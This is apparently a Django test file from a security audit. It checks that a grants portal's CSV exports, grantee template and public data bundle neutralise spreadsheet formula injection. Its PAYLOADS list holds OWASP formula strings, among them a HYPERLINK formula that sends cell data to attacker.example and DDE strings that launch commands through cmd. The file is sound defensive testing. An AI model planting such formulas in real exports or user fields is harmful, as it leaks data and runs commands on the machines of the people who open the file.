"""Finding 2 of the security audit: spreadsheet formulas never pass through a CSV the portal writes.

Each export, the public data bundle and the grantee template is fed the OWASP payloads (in an organization's
name, a text metric, a metric label, a requester's email) and must write them as text: prefixed with a quote.
"""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts.models import User
from grants.models import Metric
from grants.services import quarterly as quarterly_services
from grants.services.reporting_periods import ensure_reporting_periods
from portal import csv_files
from reporting.services import create_run, generate, publish_run
from tests.factories import (
    ApplicationFactory,
    AwardDecisionFactory,
    AwardFactory,
    MembershipFactory,
    OrganizationFactory,
    UserFactory,
)
from tests.grants.quarterly_fixtures import FULL, NARRATIVES

pytestmark = pytest.mark.django_db

SLUG = "clep-2021"
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "-2+3+cmd|' /C calc'!A0",
]


def cells_of(text):
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def assert_neutralised(text, payload):
    cells = cells_of(text)
    assert "'" + payload in cells, (payload, cells)
    for cell in cells:
        if cell[:1] in ("=", "+", "@", "\t", "\r"):
            pytest.fail(f"formula-leading cell {cell!r}")
        if cell.startswith("-"):
            float(cell)  # only numbers may start with a minus sign


@pytest.fixture(params=PAYLOADS, ids=["hyperlink", "dde", "at-sum", "tab", "minus"])
def payload(request):
    return request.param


def body_of(response):
    """A response's text, whether it was streamed (the staff exports) or not."""
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


@pytest.fixture
def world(payload):
    """An awarded application whose organization is named with the payload."""
    organization = OrganizationFactory(legal_name=payload)
    application = ApplicationFactory(organization=organization, counties=["Yakima"])
    AwardDecisionFactory(application=application)
    award = AwardFactory(application=application)
    return {"application": application, "award": award}


def test_staff_exports_neutralise_formulas(staff_client, world, payload):
    urls = [
        reverse("grants:screening_export", args=[SLUG]),
        reverse("grants:staff_ranking", args=[SLUG]) + "?format=csv",
        reverse("grants:staff_decisions", args=[SLUG]) + "?format=csv",
        reverse("grants:staff_awards", args=[SLUG]) + "?format=csv",
    ]
    for url in urls:
        response = staff_client.get(url)
        assert response.status_code == 200, url
        assert_neutralised(body_of(response), payload)


def test_quarterly_export_template_and_reimport(client, staff_client, payload):
    award = AwardFactory()
    periods = ensure_reporting_periods(award)
    member = UserFactory()
    MembershipFactory(user=member, organization=award.organization)
    text_metric = Metric.objects.get(funding_round__slug=SLUG, code="crime_data_source")
    quarterly_services.save_quarterly_draft(
        periods[0], raw_values={**FULL, "crime_data_source": payload}, narratives=NARRATIVES, by=member
    )
    report = periods[0].__class__.objects.get(pk=periods[0].pk).report
    quarterly_services.submit_quarterly_report(report, by=member)
    export = staff_client.get(reverse("grants:staff_submissions_export"), {"round": SLUG})
    assert export.status_code == 200
    assert_neutralised(export.content.decode(), payload.strip())

    # The grantee template: a metric label (staff-editable) with the payload, and a stored text value.
    text_metric.label = {"en": payload}
    text_metric.save()
    client.force_login(member)
    template = client.get(reverse("grants:quarterly_template", args=[periods[0].pk]))
    assert template.status_code == 200
    assert_neutralised(template.content.decode(), payload)

    # What the portal wrote reads back as what was typed.
    parsed = quarterly_services.upload_quarter_template(periods[1], template.content, by=member)
    assert parsed.values["crime_data_source"] == payload.strip()


def test_report_runs_csv_neutralises_the_requesters_email(staff_client, report_data, fast_render, payload):
    requester = User.objects.create_user(
        email=f"{payload.strip()}@example.org".replace(" ", ""), password="x"
    )
    create_run("final", report_data["round"], {}, by=requester)
    response = staff_client.get(reverse("reporting:staff_reports"), {"format": "csv"})
    cells = cells_of(body_of(response))
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t")]


def test_public_data_bundle_neutralises_formulas(client, report_data, fast_render, program_manager, payload):
    organization = report_data["awards"][0].organization
    organization.legal_name = payload
    organization.save()
    run = generate(create_run("final", report_data["round"], {}, by=program_manager).pk)
    publish_run(run, by=program_manager)
    response = client.get(f"/reports/{run.pk}/data.zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    texts = [archive.read(name).decode() for name in archive.namelist()]
    assert any("'" + payload in cells_of(text) for text in texts)
    for text in texts:
        assert not [cell for cell in cells_of(text) if cell[:1] in ("=", "+", "@", "\t")]


def test_safe_cell_and_read_cell_round_trip():
    for text in [*PAYLOADS, "plain", "'quoted", "-"]:
        assert csv_files.read_cell(csv_files.safe_cell(text)) == text
    assert csv_files.safe_cell(-5) == -5


def _streamed(rows, **kwargs):
    response = csv_files.streaming_csv_response("x.csv", rows, **kwargs)
    return b"".join(response.streaming_content).decode()


def test_fast_path_with_rendered_parts_writes_what_the_csv_module_writes():
    """Rows on the fast path (already neutralised, a shared part rendered once) are byte for byte the rows the
    csv module writes: quoting of commas, quotes and line breaks, numbers, empty cells; over several chunks."""
    tails = [
        ("yes", "no", "", "CLEP21-001;CLEP21-002"),
        ("a,b", 'say "hi"', "two\nlines", "'=SUM(A1)"),
        ("", "", "", ""),
    ]
    rows = [("h1", "h2", "h3", "t1", "t2", "t3", "t4")]
    expected = io.StringIO()
    writer = csv.writer(expected)
    writer.writerow(rows[0])
    fast = [rows[0]]
    for i in range(1200):
        head = (f"REF-{i}", "Org, Inc." if i % 2 else 'The "Best"', Decimal("12.50") if i % 3 else "")
        tail = tails[i % len(tails)]
        writer.writerow((*head, *tail))
        fast.append((*head, csv_files.render_cells(tail)))
    assert _streamed(fast, neutralised=True) == expected.getvalue()


def test_safe_text_neutralises_like_safe_cell():
    for text in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "plain", ""]:
        assert csv_files.safe_text(text) == csv_files.safe_cell(text)
    assert csv_files.safe_text(None) == ""
